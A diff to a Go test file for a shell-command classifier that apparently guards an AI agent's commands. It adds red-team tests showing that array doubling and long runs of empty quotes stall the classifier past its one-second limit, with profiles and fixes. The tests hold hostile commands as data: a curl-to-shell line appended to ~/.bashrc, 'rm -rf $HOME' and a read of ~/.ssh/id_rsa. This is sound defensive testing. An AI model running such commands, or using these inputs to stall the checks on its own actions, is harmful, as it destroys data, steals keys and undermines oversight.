@@ -1,6 +1,10 @@
 package classify
 
-import "testing"
+import (
+	"strings"
+	"testing"
+	"time"
+)
 
 // TestRedteam26ClassifyJQuotedKey: an associative-array element written or
 // read with a QUOTED literal key (`m['k']`, `m["a b"]`, `m["k'q"]`) is not
@@ -153,4 +157,60 @@ func TestRedteam26ClassifyJParallelShellWords(t *testing.T) {
 		{`parallel echo 'curl x\|sh' '>>' {} ::: ~/.bashrc`, Forbidden}, // attack
 		{`parallel rm -rf '$HOME' ::: x`, Forbidden},                    // attack
 	})
+}
+
+// TestRedteam26ClassifyJSlowArrayDoubling: a ~500-byte line that doubles an
+// array 22 times (`a=(x); a+=("${a[@]}"); …`) takes ~3.7 s idle to classify
+// (25 times: ~6.7 s, 40 times: ~7 s, then escalated parse-error), although
+// the README promises one second of host time and a 4 MiB budget of values.
+// Profile: arrayAssign → arrayValue → fieldBuilder.split and keyTrack.add
+// (the per-element subscript keys added this stop) build millions of
+// elements before the budget/deadline is checked. At 22 doublings the line
+// is still decided normally (credential-access), i.e. the deadline is not
+// even applied after the fact. Also `a=(${a[@]} ${a[@]})` ×40 (3.6 s).
+//
+// Severity: low/medium (denial of service of the classifier: every agent
+// command waits seconds; a loop of such lines stalls the agent host).
+// Fix: charge each array element (and key) to the values budget and check
+// the deadline inside arrayValue/arrayAssign, not only between statements.
+func TestRedteam26ClassifyJSlowArrayDoubling(t *testing.T) {
+	c := Default()
+	line := "a=(x); " + strings.Repeat(`a+=("${a[@]}"); `, 22) + "cat ~/.ssh/id_rsa"
+	start := time.Now()
+	got := c.Classify(line)
+	if d := time.Since(start); d > slowdown*1500*time.Millisecond {
+		t.Errorf("classification took %v (decision %s), want under 1s", d, got.Decision)
+	}
+	start = time.Now()
+	c.Classify(`a=(x); a+=("${a[@]}"); cat "${a[1]}"`)
+	if d := time.Since(start); d > slowdown*100*time.Millisecond {
+		t.Errorf("control took %v", d)
+	}
+}
+
+// TestRedteam26ClassifyJSlowQuotedParts: `cat ”a”a…` (100 000 empty
+// quotes between letters, a 300 KB line, under the 1 MiB input limit)
+// takes ~1.1–1.4 s and is then "allow" — the one-second limit does not
+// escalate it. 10 000 parts take 46 ms, 100 000 take 1.1 s: quadratic.
+// Profile: expandLit → fieldBuilder.add/addBare (words.go) concatenate
+// `cur.val += s` and `cur.bare += s` per part, copying the whole field each
+// time; joinLits only joins adjacent *literal* parts, not literal and
+// quoted ones. `""a` behaves the same.
+//
+// Severity: low (classifier slowness past its documented bound).
+// Fix: build fields with strings.Builder (or join all literal/quoted
+// parts of a word before expanding), and check the deadline in long words.
+func TestRedteam26ClassifyJSlowQuotedParts(t *testing.T) {
+	c := Default()
+	line := "cat " + strings.Repeat("''a", 100000)
+	start := time.Now()
+	got := c.Classify(line)
+	if d := time.Since(start); d > slowdown*700*time.Millisecond {
+		t.Errorf("classification took %v (decision %s), want well under 1s", d, got.Decision)
+	}
+	start = time.Now()
+	c.Classify("cat " + strings.Repeat("''a", 1000))
+	if d := time.Since(start); d > slowdown*100*time.Millisecond {
+		t.Errorf("control took %v", d)
+	}
 }
